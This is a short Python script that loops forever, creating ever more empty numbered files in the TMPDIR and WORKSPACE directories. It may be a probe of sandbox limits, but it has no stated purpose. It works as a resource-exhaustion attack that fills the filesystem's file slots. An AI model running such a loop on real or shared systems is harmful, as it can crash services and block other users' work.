import os

number = 0
while True:
    number += 1
    for folder in (os.environ["TMPDIR"], os.environ["WORKSPACE"]):
        open(f"{folder}/{number}", "wb").close()
